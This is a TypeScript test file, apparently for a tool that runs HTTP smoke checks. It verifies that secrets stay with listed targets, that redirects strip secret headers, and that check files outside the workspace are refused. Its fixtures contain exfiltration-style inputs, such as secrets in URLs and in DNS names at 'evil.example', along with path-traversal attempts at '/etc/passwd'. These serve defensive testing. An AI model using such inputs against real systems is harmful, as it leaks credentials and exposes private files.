/** Where secrets may go, what may be asked, and which files are read: through the shipped bundle. */
import { mkdir, mkdtemp, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { smoke } from "./harness.ts";
import { type Internet, startInternet } from "./internet.ts";

const SECRET = "pass-word-of-a-user";
const ACCESS = { "access-client-id": "id.access", "access-client-secret": "sesame-of-access" };

let net: Internet;
beforeAll(async () => {
  net = await startInternet({
    "shop.example": ({ url }) =>
      url === "/away" ? { status: 302, headers: { location: "https://other.example/moved" } } : { body: "shop" },
    "other.example": () => ({ body: "other" }),
  });
});
afterAll(() => net[Symbol.asyncDispose]());
beforeEach(() => {
  net.asked.length = 0;
});

const file = (checks: string, more = "") =>
  `version: 1\ntargets: { shop: "https://shop.example" }\n${more}defaults: { retry: { attempts: 1 } }\nchecks:\n${checks}`;
const check = (name: string, request: string, rest = "") =>
  `  - { name: ${name}, request: ${request}, expect: { status: 200 }${rest} }\n`;
const inputs = { "secret-variables": `PASSWORD=${SECRET}`, ...ACCESS };
const run = (text: string, extra: Record<string, string> = {}) =>
  smoke(net, { file: text, inputs: { ...inputs, ...extra } });

const there = 'origins: ["https://other.example"]\n';

describe("a check file that leads elsewhere is refused before anything is asked", () => {
  test.each<[string, string, number, RegExp]>([
    [
      "a secret in an address that was added",
      file(check("theft", '{ url: "http://127.0.0.1:9/stolen?k=${PASSWORD}" }')),
      5,
      /secret variable "PASSWORD" to an address that is no target, in check "theft", `request\.url`.*Secrets go to targets only/,
    ],
    [
      "an address that nobody listed",
      file(check("elsewhere", '{ url: "https://other.example/" }')),
      5,
      /asks https:\/\/other\.example in check "elsewhere", which is neither a target.*Add `origins: \[https:\/\/other\.example\]`/,
    ],
    ["another port of a target", file(check("port", '{ url: "https://shop.example:8443/" }')), 5, /neither a target/],
    [
      "a secret in a header to a listed origin",
      file(
        check("header", '{ url: "https://other.example/", headers: { authorization: "Bearer ${PASSWORD}" } }'),
        there,
      ),
      6,
      /"PASSWORD" to an address that is no target, in check "header", `request\.headers\.authorization`/,
    ],
    [
      "a secret in a body to a listed origin",
      file(
        check("body", '{ url: "https://other.example/", method: POST, json: { a: [{ b: "${PASSWORD}" }] } }'),
        there,
      ),
      6,
      /in check "body", `request\.json\.a\.0\.b`/,
    ],
    [
      "a secret to the plain address of a target",
      file(check("plain", '{ url: "http://shop.example/", query: { k: "${PASSWORD}" } }')),
      5,
      /`request\.query\.k`/,
    ],
    [
      "a secret in a name that is resolved",
      file('  - { name: dns, dns: { resolve: "${PASSWORD}.evil.example" } }\n'),
      5,
      /"PASSWORD" where no target is asked.*`dns\.resolve`/,
    ],
    [
      "a secret in a port's address",
      file('  - { name: port, addr: { address: "tcp://${PASSWORD}.evil.example:1" } }\n'),
      5,
      /`addr\.address`/,
    ],
    [
      "more than an origin",
      file(check("fine", "{ path: / }"), 'origins: ["https://other.example/path"]\n'),
      3,
      /not an origin.*scheme, host and port/,
    ],
    [
      "a status that says nothing",
      file("  - { name: any, request: { path: / }, expect: { status: [1xx, 2xx, 3xx, 4xx, 5xx] } }\n"),
      5,
      /status in check "any" that every answer satisfies/,
    ],
  ])("%s", async (_, text, line, sentence) => {
    const { outputs, annotations, stdout } = await run(text);
    expect(outputs["failure-reason"], stdout).toBe("invalid-checks");
    expect(annotations[0]).toMatchObject({ line, message: expect.stringMatching(sentence) });
    expect(net.asked).toEqual([]);
    expect(stdout.replace(/^::add-mask::.*$/gm, "")).not.toContain(SECRET);
  });
});

describe("what is listed is asked, without anything secret", () => {
  const carried = () =>
    net.asked.map(({ host, secure, headers }) => [
      host,
      secure,
      "x-key" in headers,
      "cf-access-client-id" in headers,
      headers["x-plain"],
    ]);
  const more = (origins: string) => `${origins}deadline: 20s\n`;
  const text = (origins: string) =>
    file(
      check("shop", "{ path: / }") +
        check("other", '{ url: "https://other.example/" }') +
        check("plain", '{ url: "http://shop.example/" }'),
      more(origins),
    ).replace("defaults: {", 'defaults: { headers: { x-key: "${PASSWORD}", x-plain: yes },');

  test.each<[string, string, Record<string, string>]>([
    ["by the file", there, {}],
    ["by the input", "", { origins: "https://other.example" }],
  ])("%s", async (_, origins, extra) => {
    const { outputs, stdout } = await run(text(origins).replace("yes }", '"yes" }'), extra);
    expect(outputs.outcome, stdout).toBe("passed");
    expect(carried().sort()).toEqual([
      ["other.example", true, false, false, "yes"],
      ["shop.example", false, false, false, "yes"],
      ["shop.example", true, true, true, "yes"],
    ]);
  });

  test("a redirect there loses it all", async () => {
    const { outputs } = await run(file(check("away", '{ path: /away, follow: 1, headers: { x-key: "${PASSWORD}" } }')));
    expect(outputs.outcome).toBe("passed");
    expect(carried()).toEqual([
      ["shop.example", true, true, true, undefined],
      ["other.example", true, false, false, undefined],
    ]);
  });

  test("an input that is no origin is refused", async () => {
    const { stdout, outputs } = await run(file(check("shop", "{ path: / }")), { origins: "https://other.example/x" });
    expect(outputs["failure-reason"]).toBe("invalid-input");
    expect(stdout).toMatch(/`origins` is `https:\/\/other\.example\/x`, which is not an origin/);
  });
});

test("a path never leaves its target, and `/` is the address as it is written", async () => {
  await smoke(net, { inputs: { ...inputs, url: "https://shop.example/health?deep=1", attempts: "1" } });
  await run(
    file(check("slashes", '{ path: "//other.example/x" }') + check("backslash", '{ path: "/\\\\other.example/x" }')),
  );
  expect(net.asked.map(({ host, url }) => `${host} ${url}`).sort()).toEqual([
    "shop.example //other.example/x",
    "shop.example //other.example/x",
    "shop.example /health?deep=1",
  ]);
});

test("only files of the workspace are read as check files", async () => {
  const cwd = await mkdtemp(join(net.directory, "workspace-"));
  const hidden = join(net.directory, "hidden.yml");
  await writeFile(hidden, "password: hunter2\n");
  await symlink(hidden, join(cwd, "link.yml"));
  await mkdir(join(cwd, "sub"));
  await symlink(net.directory, join(cwd, "sub/folder"));
  await writeFile(join(cwd, "..checks.yml"), file(check("fine", "{ path: / }")));
  for (const path of [
    "../hidden.yml",
    hidden,
    "/etc/passwd",
    "link.yml",
    "sub/folder/hidden.yml",
    "sub/../../hidden.yml",
  ]) {
    const { stdout, outputs } = await smoke(net, { cwd, inputs: { ...inputs, "check-file": path } });
    expect(outputs["failure-reason"], path).toBe("invalid-input");
    expect(stdout).toMatch(/`check-file` is `.*(outside of the workspace|a link that leads out of the workspace)/);
    expect(stdout).not.toMatch(/hunter2|root:x/);
  }
  const fine = await smoke(net, { cwd, inputs: { ...inputs, "check-file": join(cwd, "..checks.yml") } });
  expect(fine.outputs.outcome).toBe("passed");
});
